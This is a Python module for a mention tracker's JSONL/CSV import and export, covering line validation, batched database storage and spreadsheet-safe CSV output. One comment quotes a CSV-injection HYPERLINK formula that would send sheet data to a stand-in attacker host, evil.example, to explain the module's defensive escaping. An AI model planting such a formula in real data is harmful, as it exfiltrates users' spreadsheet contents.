"""`tracker mentions import` and `export`: JSONL and CSV in the normalised fields of SPEC §4.

Import streams the file in batches (memory does not grow with the file), rejects a
bad line with its number and reason, and stores every good line. It is idempotent on
(platform, external_id): a re-import updates figures and records them in the history.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import IO, Any, TypedDict

from sqlalchemy import select
from sqlalchemy import text as sql_text
from sqlalchemy.orm import Session

from connectors import _clean
from connectors.base import KINDS, Item
from tracker import aggregates, sentiment
from tracker.config import LANG, SLUG, Settings
from tracker.errors import UserError
from tracker.ingest import UpsertCounts, ensure_import_streams, sync_streams, upsert_items
from tracker.store.db import Store
from tracker.store.models import Mention, MentionStream
from tracker.store.queries import mention_streams, stream_ids, stream_names, stream_names_by_id
from tracker.timeutil import day_bounds, iso_z, parse_instant, utcnow

FIELDS = (
    "platform",
    "external_id",
    "url",
    "author",
    "text",
    "lang",
    "created_at",
    "kind",
    "likes",
    "reposts",
    "replies",
    "quotes",
    "engagement",
    "sentiment",
    "sentiment_label",
    "streams",
)
REQUIRED = ("platform", "external_id", "text", "created_at")
FORMATS = ("jsonl", "csv")
BATCH = 5000
GROUP_ROWS = 50_000  # lines an import stores in one transaction at most; see _Pipeline
GROUP_SECONDS = 5.0  # and for how long at most: collectors wait that long to write, no longer
# SQLite's page cache of the import's connection (the store keeps 32 MB): a transaction of a
# backfill changes pages all over the time indexes, which a smaller cache writes out and reads
# back before the commit. 1,000,000 lines into 2,000,000 mentions: see bench/RESULTS.md.
IMPORT_CACHE_KB = 131_072
SWITCH_INTERVAL_S = 0.0002  # while an import runs; see _Pipeline
MAX_TEXT = 100_000
MAX_ID = 2_000
MAX_URL = 4_000
MAX_SHORT = 512
# The largest engagement figure a line may give, as for collected items: no post has a trillion
# likes, and sums of figures this size stay within the 64-bit columns of the daily aggregates
# (larger ones made the whole transaction fail at its commit, naming no line).
MAX_COUNT = _clean.MAX_COUNT
PLATFORM = re.compile(r"^[a-z][a-z0-9_-]{0,31}$")
_SPLIT_STREAMS = re.compile(r"[,;\s]+")
WEB_URL = re.compile(r"^https?://", re.IGNORECASE)
WHOLE_NUMBER = re.compile(r"[+-]?\d{1,19}")


class LineError(ValueError):
    """Why one line of an import file was rejected."""


@dataclass
class ImportReport:
    lines: int = 0
    counts: UpsertCounts = field(default_factory=UpsertCounts)
    rejected: list[tuple[int, str]] = field(default_factory=list)

    def as_dict(self) -> dict[str, Any]:
        return {
            "lines": self.lines,
            "new": self.counts.new,
            "updated": self.counts.updated,
            "unchanged": self.counts.unchanged,
            "rejected": len(self.rejected),
            "errors": [{"line": n, "reason": r} for n, r in self.rejected],
        }


def detect_format(path: Path, given: str | None) -> str:
    if given:
        if given not in FORMATS:
            raise UserError(f"--format: expected jsonl or csv, got {given!r}")
        return given
    suffix = path.suffix.lower()
    if suffix in (".jsonl", ".ndjson", ".json"):
        return "jsonl"
    if suffix == ".csv":
        return "csv"
    raise UserError(
        f"{path}: cannot tell the format from {suffix or 'no extension'!r}; "
        "name it .jsonl or .csv, or pass --format jsonl|csv"
    )


# -- parsing one line -------------------------------------------------------------------------


def parse_record(record: Any, extra_stream: str | None = None) -> Item:
    """Validate one decoded line (JSON object or CSV row) into an Item; raise LineError."""
    if not isinstance(record, dict):
        raise LineError(f"expected a JSON object, got {type(record).__name__}")
    get = record.get
    for name in REQUIRED:
        value = get(name)
        if value is None or (value == "" and name != "text"):
            raise LineError(f"{name}: required")
    created = _text(record, "created_at", 64)
    try:
        created_at = parse_instant(created or "")
    except ValueError:
        raise LineError(
            f"created_at: not an ISO 8601 timestamp with a UTC offset like 2026-09-01T10:00:00Z, "
            f"got {(created or '')[:40]!r}"
        ) from None
    if not 1970 <= created_at.year <= 2200:
        raise LineError(f"created_at: year {created_at.year} is out of range")
    if created_at > _FUTURE_LIMIT[0]:
        raise LineError(f"created_at: {created or ''} is more than a day in the future")
    platform = _text(record, "platform", 32) or ""
    if platform not in _PLATFORMS_SEEN:
        if not PLATFORM.match(platform):
            raise LineError(f"platform: expected a lower-case name like 'mastodon', got {platform!r}")
        if len(_PLATFORMS_SEEN) < 1000:
            _PLATFORMS_SEEN.add(platform)
    external_id = get("external_id")
    if isinstance(external_id, int) and not isinstance(external_id, bool):
        external_id = str(external_id)
    external_id = _text({"external_id": external_id}, "external_id", MAX_ID)
    score = _number(record, "sentiment", -1.0, 1.0) if get("sentiment") not in (None, "") else None
    if get("sentiment_label") not in (None, ""):
        given_label = _text(record, "sentiment_label", 16)
        if given_label != sentiment.label(score):
            raise LineError(f"sentiment_label: {given_label!r} does not match sentiment {score!r}")
    kind = _text(record, "kind", 16) or "mention"
    if kind not in KINDS:
        raise LineError(f"kind: expected mention or own, got {kind!r}")
    lang = _text(record, "lang", 35)
    if lang is not None and lang not in _LANGS_SEEN:
        if not LANG.match(lang):
            raise LineError(f"lang: expected a language code like 'en' or 'en-US', got {lang!r}")
        if len(_LANGS_SEEN) < 1000:
            _LANGS_SEEN.add(lang)
    return Item(
        platform=platform,
        external_id=external_id or "",
        text=_text(record, "text", MAX_TEXT, strip=False) or "",
        created_at=created_at,
        url=_url(record) if get("url") not in (None, "") else None,
        author=_text(record, "author", MAX_SHORT),
        lang=lang,
        kind=kind,
        likes=_likes(record, platform),
        reposts=_integer(record, "reposts", 0),
        replies=_integer(record, "replies", 0),
        quotes=_integer(record, "quotes", 0),
        sentiment=score,
        streams=_streams(record, extra_stream),
    )


def _likes(record: dict[str, Any], platform: str) -> int | None:
    """A count is never negative, except a Reddit score (which SPEC maps to likes)."""
    likes = _integer(record, "likes", -MAX_COUNT)
    if likes is not None and likes < 0 and platform not in NEGATIVE_LIKES:
        raise LineError(f"likes: {likes} is negative (only a Reddit score can be)")
    return likes


NEGATIVE_LIKES = frozenset({"reddit"})
# The latest created_at accepted: a day ahead of now (clocks drift, time zones differ).
_FUTURE_LIMIT = [utcnow() + timedelta(days=1)]

# Values already checked once: a file repeats the same few platforms and languages.
_PLATFORMS_SEEN: set[str] = set()
_LANGS_SEEN: set[str] = set()
_STREAMS_SEEN: dict[tuple[str | None, str | None], tuple[str, ...]] = {}  # (stream, --stream) -> names


def _text(record: dict[str, Any], name: str, limit: int, *, strip: bool = True) -> str | None:
    value = record.get(name)
    if value is None or (value == "" and name != "text"):
        return None
    if not isinstance(value, str):
        raise LineError(f"{name}: expected text, got {type(value).__name__}")
    if len(value) > limit:
        raise LineError(f"{name}: longer than {limit:,} characters")
    if "\x00" in value:
        raise LineError(f"{name}: contains a NUL character")
    if not value.isascii():  # only non-ASCII text can hold a lone surrogate
        try:
            value.encode("utf-8")
        except UnicodeEncodeError:
            raise LineError(f"{name}: contains invalid Unicode (a lone surrogate)") from None
    return value.strip() if strip else value


def _url(record: dict[str, Any]) -> str | None:
    url = _text(record, "url", MAX_URL)
    if url is not None and not WEB_URL.match(url):
        raise LineError(f"url: must start with http:// or https://, got {url[:60]!r}")
    return url


def _integer(record: dict[str, Any], name: str, lowest: int) -> int | None:
    value = record.get(name)
    if value is None or value == "":
        return None
    if isinstance(value, str):
        text = value.strip()
        if not WHOLE_NUMBER.fullmatch(text):
            raise LineError(f"{name}: expected a whole number, got {text[:40]!r}")
        value = int(text)
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    if isinstance(value, bool) or not isinstance(value, int):
        raise LineError(f"{name}: expected a whole number, got {type(value).__name__}")
    if value > MAX_COUNT:
        raise LineError(f"{name}: {value} is larger than any post's count (at most {MAX_COUNT:,})")
    if value < lowest:
        raise LineError(f"{name}: {value} is out of range")
    return value


def _number(record: dict[str, Any], name: str, lo: float, hi: float) -> float | None:
    value = record.get(name)
    if value is None or value == "":
        return None
    if isinstance(value, str):
        text = value.strip()
        try:
            value = float(text)
        except ValueError:
            raise LineError(f"{name}: expected a number, got {text[:40]!r}") from None
    if isinstance(value, bool) or not isinstance(value, int | float):
        raise LineError(f"{name}: expected a number, got {type(value).__name__}")
    if math.isnan(value) or not lo <= value <= hi:
        raise LineError(f"{name}: expected a number from {lo:g} to {hi:g}, got {value!r}")
    return float(value)


def _streams(record: dict[str, Any], extra: str | None) -> tuple[str, ...]:
    one, many = record.get("stream"), record.get("streams")
    if many is None and (one is None or type(one) is str):  # most lines: one of a few names
        key = (one, extra)
        found = _STREAMS_SEEN.get(key)
        if found is None:
            found = _checked_streams(one, None, extra)
            if len(_STREAMS_SEEN) < 1000:
                _STREAMS_SEEN[key] = found
        return found
    return _checked_streams(one, many, extra)


def _checked_streams(one: Any, many: Any, extra: str | None) -> tuple[str, ...]:
    names: list[str] = []
    if one not in (None, ""):
        if not isinstance(one, str):
            raise LineError(f"stream: expected a stream name, got {type(one).__name__}")
        names.append(one.strip())
    if isinstance(many, str):
        many = [n for n in _SPLIT_STREAMS.split(many) if n]
    if many is not None:
        if not isinstance(many, list) or not all(isinstance(n, str) for n in many):
            raise LineError("streams: expected a list of stream names")
        names.extend(n.strip() for n in many)
    if extra:
        names.append(extra)
    for name in names:
        if not SLUG.match(name) or len(name) > 100:
            raise LineError(f"streams: {name[:40]!r} is not a stream name (a-z, 0-9 and '-')")
    return tuple(dict.fromkeys(names))


# -- reading files ----------------------------------------------------------------------------

Record = tuple[int, Any, str | None]  # line number, decoded record, or the reason it failed


def read_jsonl(handle: IO[bytes]) -> Iterator[Record]:
    for number, raw in enumerate(handle, start=1):
        if number == 1 and raw.startswith(b"\xef\xbb\xbf"):
            raw = raw[3:]
        if not raw.strip():
            continue
        try:
            yield number, json.loads(raw.decode("utf-8")), None
        except UnicodeDecodeError:
            yield number, None, "not valid UTF-8"
        except json.JSONDecodeError as exc:
            yield number, None, f"not valid JSON: {exc.msg} (column {exc.colno})"
        except RecursionError:
            yield number, None, "not valid JSON: nested too deeply"


def read_csv(handle: IO[bytes]) -> Iterator[Record]:
    text = io.TextIOWrapper(handle, encoding="utf-8-sig", errors="surrogateescape", newline="")
    try:
        yield from _csv_records(text)
    finally:
        text.detach()  # the caller owns (and closes) the file


def _csv_records(text: IO[str]) -> Iterator[Record]:
    csv.field_size_limit(MAX_TEXT * 4)
    reader = csv.reader(text)
    try:
        header = next(reader)
    except StopIteration:
        return
    except csv.Error as exc:
        raise UserError(f"the CSV header cannot be read: {exc}") from None
    missing = [name for name in REQUIRED if name not in header]
    if missing:
        raise UserError(f"the CSV header lacks required columns: {', '.join(missing)}")
    line = reader.line_num
    while True:
        start = line + 1
        try:
            row = next(reader)
        except StopIteration:
            return
        except csv.Error as exc:
            line = reader.line_num
            yield start, None, f"not valid CSV: {exc}"
            continue
        line = reader.line_num
        if not any(cell.strip() for cell in row):
            continue
        if any(_has_surrogate(cell) for cell in row):
            yield start, None, "not valid UTF-8"
        elif len(row) != len(header):
            yield start, None, f"expected {len(header)} columns, got {len(row)}"
        else:
            yield start, dict(zip(header, [unguard_cell(c) for c in row], strict=True)), None


def _has_surrogate(value: str) -> bool:
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        return True
    return False


# -- import -----------------------------------------------------------------------------------

Progress = Callable[[int], None]


def import_file(
    *,
    store: Store,
    settings: Settings,
    path: Path,
    fmt: str,
    stream: str | None = None,
    progress: Progress | None = None,
    create_streams: bool = True,
    require_stream: bool = False,
    report: ImportReport | None = None,
) -> ImportReport:
    """Import a JSONL/CSV file; good lines are stored in batches, bad ones reported by number.

    `report` (filled in and returned) holds what was stored also when the import ends early: an
    interrupt or an error keeps the whole batches stored before it, and counts only those.

    With `create_streams=False` a line naming a stream that is neither configured nor
    stored is rejected (a typo must not create a stream), unless the tracker has no
    stream at all yet; with `require_stream=True` a
    line without any stream is rejected unless `stream` gives one. The CLI sets both
    (`--create-streams` lifts the first); programs that load their own data keep the defaults.
    """
    if stream is not None and (not SLUG.match(stream) or len(stream) > 100):
        raise UserError(f"--stream: {stream!r} is not a stream name (a-z, 0-9 and '-')")
    _FUTURE_LIMIT[0] = utcnow() + timedelta(days=1)
    check = None
    if not create_streams or require_stream:
        known = _known_streams(store, settings)
        # Into a tracker with no stream at all (import-only use), the first file names
        # its streams: there is nothing a name could be a typo of.
        check = _StreamCheck(known, create_streams or not known, require_stream)
    if check is not None and stream is not None and not check.create and stream not in check.known:
        raise UserError(f"--stream: {check.unknown(stream)}")
    report = report if report is not None else ImportReport()
    reader = read_jsonl if fmt == "jsonl" else read_csv
    try:
        handle = path.open("rb")
    except OSError as exc:
        raise UserError(f"cannot read {path}: {exc.strerror}") from None
    with handle:
        pipeline = _Pipeline(store, settings, report)
        try:
            _feed_records(reader(handle), handle, pipeline, report, stream, progress, check)
            pipeline.flush()
        finally:
            pipeline.close()
        if progress:
            progress(handle.tell())
    if store.dialect == "postgresql" and report.counts.new >= ANALYZE_AFTER:
        maintain(store)
    return report


# PostgreSQL plans by its tables' statistics, which autovacuum renews some time after a bulk
# load: until then the web overview's queries on 3,000,000 mentions took 452 ms, 122 ms after.
# Until the new rows are vacuumed, an index-only scan still visits the table to check each row
# is visible: the overview's most engaging mentions of the week took 66 ms, 5 ms after.
ANALYZE_AFTER = 50_000  # new mentions an import stores before it renews them itself
ANALYZED = ("mentions", "mention_streams", "mention_search", "engagement_history",
            "daily_aggregates", "post_engagement", "daily_scorers")  # fmt: skip


def maintain(store: Store) -> None:
    """VACUUM (ANALYZE) the tables an import fills on PostgreSQL: fresh statistics for the
    planner and the new rows marked visible, as autovacuum would leave them some minutes later.
    Outside a transaction, as VACUUM must run; it blocks neither readers nor writers."""
    with store.engine.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
        connection.exec_driver_sql(f"VACUUM (ANALYZE) {', '.join(ANALYZED)}")


def _feed_records(
    records: Iterator[Record],
    handle: IO[bytes],
    pipeline: _Pipeline,
    report: ImportReport,
    stream: str | None,
    progress: Progress | None,
    check: _StreamCheck | None = None,
) -> None:
    batch: list[Item] = []
    for number, record, problem in records:
        report.lines += 1
        try:
            if problem is not None:
                raise LineError(problem)
            item = parse_record(record, stream)
            if check is not None:
                check(item)
            batch.append(item)
        except LineError as exc:
            report.rejected.append((number, str(exc)))
        if len(batch) >= BATCH:
            pipeline.push(batch)
            batch = []
            if progress:
                progress(handle.tell())
    pipeline.push(batch)


class _StreamCheck:
    """Rejects lines whose streams are unknown (unless created) or missing (when required)."""

    def __init__(self, known: set[str], create: bool, require: bool) -> None:
        self.known, self.create, self.require = known, create, require

    def __call__(self, item: Item) -> None:
        if self.require and not item.streams:
            raise LineError('no stream: add a "stream" field to the line, or give --stream NAME')
        if not self.create:
            for name in item.streams:
                if name not in self.known:
                    raise LineError(self.unknown(name))

    def unknown(self, name: str) -> str:
        known = ", ".join(sorted(self.known)) or "none yet"
        return f"unknown stream {name!r} (known: {known}); add it with --create-streams"


def _known_streams(store: Store, settings: Settings) -> set[str]:
    with store.read() as session:
        stored = set(stream_names(session))
    return stored | {s.name for s in settings.streams}


class _Pipeline:
    """Batches on their way to the store: one stored while the next is read.

    Language detection and scoring of a batch run in a background worker process, and storing
    runs on a thread of its own, so while a batch is scored and stored this thread reads and
    checks the next one: the database does its part without the GIL (sqlite3 and psycopg
    release it while the engine works), so a two-core machine does both at once. Batches are
    stored one at a time and in order; an error while storing one stops the import at the next
    batch (`push` or `flush` raises it). Only the texts and the known languages travel to the
    scoring worker, and only languages and scores come back.

    Consecutive batches share one transaction, committed every GROUP_ROWS lines and at the end:
    mentions of a backfill fall on days all over the history, so each row changes a different
    page of each time index, and a commit writes every page its rows changed; at 2,000,000
    mentions a commit per 5,000 lines wrote most of those pages again for each batch (rows/s:
    8,700 with a commit per 5,000 rows, 17,000 per 50,000, in bench/RESULTS.md). Each batch is
    a savepoint of its own: one that fails is undone alone and the batches before it are
    committed, as when each had its own transaction. The report counts a batch once its
    transaction is committed. A transaction also ends after GROUP_SECONDS, however few lines it
    holds: while it is open, a collector writing to the same SQLite file waits for it.
    """

    def __init__(self, store: Store, settings: Settings, report: ImportReport) -> None:
        self.store, self.settings, self.report = store, settings, report
        self.storing: Future[None] | None = None
        self.thread = ThreadPoolExecutor(max_workers=1, thread_name_prefix="tracker-store")
        # The store thread takes the GIL back after each statement; with CPython's default
        # interval (5 ms) it would wait that long each time behind the reading thread.
        self.interval = sys.getswitchinterval()
        sys.setswitchinterval(min(self.interval, SWITCH_INTERVAL_S))
        # The open transaction (used on the store thread only), and what its batches stored.
        self.transaction: ExitStack | None = None
        self.session: Session | None = None
        self.pending = UpsertCounts()
        self.cells = aggregates.Pending()  # the daily aggregates' change of the batches released
        self.lines = 0
        self.began = 0.0

    def push(self, batch: list[Item]) -> None:
        if not batch:
            return
        todo = [item for item in batch if not item.lang or item.sentiment is None]
        job = (
            sentiment.submit_languages_and_scores([i.text for i in todo], [i.lang for i in todo])
            if todo
            else None
        )
        self.flush()
        self.storing = self.thread.submit(self._store, batch, todo, job)

    def _store(self, batch: list[Item], todo: list[Item], job: sentiment.Pending | None) -> None:
        scored = None
        if job is not None:
            langs, scores = job.result()
            scored = {
                (i.platform, i.external_id): (lang, s) for i, lang, s in zip(todo, langs, scores, strict=True)
            }
        if self.session is None:
            self.transaction = ExitStack()
            self.session = self.transaction.enter_context(self.store.write())
            self.began = time.monotonic()
            if self.store.dialect == "sqlite":  # the pages a transaction changes, kept in memory
                self.session.execute(sql_text(f"PRAGMA cache_size=-{IMPORT_CACHE_KB}"))
        savepoint = self.session.begin_nested()
        cells = aggregates.Pending()
        try:
            counts = _store_batch(self.session, self.settings, batch, scored, cells)
            savepoint.commit()
        except BaseException:
            try:
                savepoint.rollback()
            except Exception:  # the database undid the whole transaction, savepoint and all
                self._commit(undone=True)
            else:
                self._commit()  # the batches before this one
            raise
        self.cells.merge(cells)
        self.pending.add(counts)
        self.lines += len(batch)
        if self.lines >= GROUP_ROWS or time.monotonic() - self.began >= GROUP_SECONDS:
            self._commit()

    def _commit(self, *, undone: bool = False) -> None:
        """End the open transaction: committed, and its batches counted (store thread only).
        `undone`: the database has rolled it back already (SQLite does after some errors, such
        as a full disk): nothing of it was stored and nothing is counted."""
        transaction, session, self.transaction, self.session = self.transaction, self.session, None, None
        pending, self.pending, self.lines = self.pending, UpsertCounts(), 0
        cells, self.cells = self.cells, aggregates.Pending()
        if transaction is None or session is None:
            return
        if undone:
            with suppress(Exception):  # rolled back on our side too; the error that undid it is raised
                transaction.__exit__(RuntimeError, RuntimeError("undone"), None)
            return
        try:  # the daily aggregates of the transaction's batches, in it (as a commit, all or nothing)
            cells.write(session.connection())
        except BaseException as exc:
            with suppress(Exception):
                transaction.__exit__(type(exc), exc, exc.__traceback__)
            raise
        transaction.close()
        self.report.counts.add(pending)

    def flush(self) -> None:
        """Wait until every batch pushed is stored; raises what storing one raised."""
        storing, self.storing = self.storing, None
        if storing is not None:
            storing.result()

    def close(self) -> None:
        """Wait for the batch being stored, commit the whole batches stored (also after an
        error or an interrupt while reading), then stop the workers."""
        try:
            self.thread.submit(self._commit).result()
        finally:
            self.thread.shutdown(wait=True)
            sys.setswitchinterval(self.interval)
            sentiment.shutdown_background()


def _store_batch(
    session: Session,
    settings: Settings,
    batch: Sequence[Item],
    scored: Any = None,
    cells: aggregates.Pending | None = None,
) -> UpsertCounts:
    now = utcnow()
    known = sync_streams(session=session, settings=settings, now=now)
    names = {n for item in batch for n in item.streams}
    ensure_import_streams(session=session, names=names, known=known, now=now)
    return upsert_items(session=session, items=batch, stream_ids=known, now=now, scored=scored, pending=cells)


# -- export -----------------------------------------------------------------------------------


def export(
    *,
    store: Store,
    settings: Settings,
    out: IO[str],
    fmt: str,
    streams: Sequence[str] = (),
    since: date | None = None,
    until: date | None = None,
    matching: str | None = None,
) -> int:
    """Write mentions (oldest first) in the fields of SPEC §4; return how many were written.

    `matching` (a query in the language of tracker/query.py) keeps only the mentions it matches."""
    if fmt not in FORMATS:
        raise UserError(f"--format: expected jsonl or csv, got {fmt!r}")
    if since and until and until < since:
        raise UserError("--until is before --since")
    zone = settings.organisation.zone
    with store.read() as session:
        stream_ids = _stream_ids(session, streams)
        query = select(Mention).order_by(Mention.created_at, Mention.id)
        if since:
            query = query.where(Mention.created_at >= day_bounds(since, since, zone)[0])
        if until:
            query = query.where(Mention.created_at < day_bounds(until, until, zone)[1])
        if stream_ids is not None:
            linked = select(MentionStream.mention_id).where(MentionStream.stream_id.in_(stream_ids))
            query = query.where(Mention.id.in_(linked))
        if matching is not None:
            from tracker.query import parse
            from tracker.search_index import where

            query = query.where(where(parse(matching), store.dialect))
        writer = _writer(out, fmt)
        count = 0
        names = stream_names_by_id(session)
        rows = session.execute(query.execution_options(yield_per=BATCH)).scalars()
        for chunk in _chunks(rows, BATCH):
            links = mention_streams(session, [m.id for m in chunk], names)
            for mention in chunk:
                writer(mention_record(mention, links.get(mention.id, [])))
                count += 1
    return count


class MentionRecord(TypedDict):
    """One mention in the normalised fields of SPEC §4, as `mentions export` and `search` give it."""

    platform: str
    external_id: str
    url: str | None
    author: str | None
    text: str
    lang: str | None
    created_at: str
    kind: str
    likes: int | None
    reposts: int | None
    replies: int | None
    quotes: int | None
    engagement: int
    sentiment: float | None
    sentiment_label: str | None
    streams: list[str]


def mention_record(mention: Mention, streams: list[str]) -> MentionRecord:
    """The normalised fields of SPEC §4 for one stored mention."""
    return {
        "platform": mention.platform,
        "external_id": mention.external_id,
        "url": mention.url,
        "author": mention.author,
        "text": mention.text,
        "lang": mention.lang,
        "created_at": iso_z(mention.created_at),
        "kind": mention.kind,
        "likes": mention.likes,
        "reposts": mention.reposts,
        "replies": mention.replies,
        "quotes": mention.quotes,
        "engagement": mention.engagement,
        "sentiment": mention.sentiment,
        "sentiment_label": mention.sentiment_label,
        "streams": sorted(streams),
    }


def _stream_ids(session: Any, names: Sequence[str]) -> list[int] | None:
    if not names:
        return None
    found = stream_ids(session, names)
    unknown = [n for n in names if n not in found]
    if unknown:
        raise UserError(f"--stream: unknown stream {unknown[0]!r}")
    return list(found.values())


def _chunks(rows: Any, size: int) -> Iterator[list[Any]]:
    chunk: list[Any] = []
    for row in rows:
        chunk.append(row)
        if len(chunk) >= size:
            yield chunk
            chunk = []
    if chunk:
        yield chunk


def _writer(out: IO[str], fmt: str) -> Callable[[MentionRecord], None]:
    if fmt == "jsonl":

        def write_jsonl(record: MentionRecord) -> None:
            out.write(json.dumps(record, ensure_ascii=False) + "\n")

        return write_jsonl

    # Rows end in "\n", but a cell holding a lone "\r" must be quoted too (the csv module
    # quotes only the characters of its line terminator): each row is written with "\r\n"
    # and its terminator swapped.
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=FIELDS, lineterminator="\r\n")

    def emit() -> None:
        out.write(buffer.getvalue()[:-2] + "\n")
        buffer.seek(0)
        buffer.truncate()

    writer.writeheader()
    emit()

    def write_csv(record: MentionRecord) -> None:
        row = {
            k: ("" if v is None else guard_cell(v) if isinstance(v, str) else v) for k, v in record.items()
        }
        row["streams"] = guard_cell(";".join(record["streams"]))
        writer.writerow(row)
        emit()

    return write_csv


# A spreadsheet runs a cell that begins with one of these as a formula (OWASP "CSV
# injection"): `=HYPERLINK("https://evil.example?"&A1, "click")` in a mention's text would
# send the sheet's data away. Such cells are written with a leading apostrophe, which
# spreadsheets show as text; the importer takes one apostrophe off again, so an
# export imports as it was (a cell that already began with apostrophes gets one more).
_FORMULA = re.compile(r"^'*[=+\-@\t\r]")


def guard_cell(value: str) -> str:
    """A CSV cell a spreadsheet shows as text, never runs."""
    return "'" + value if _FORMULA.match(value) else value


def unguard_cell(value: str) -> str:
    """The cell as it was before `guard_cell`."""
    return value[1:] if value.startswith("'") and _FORMULA.match(value) else value
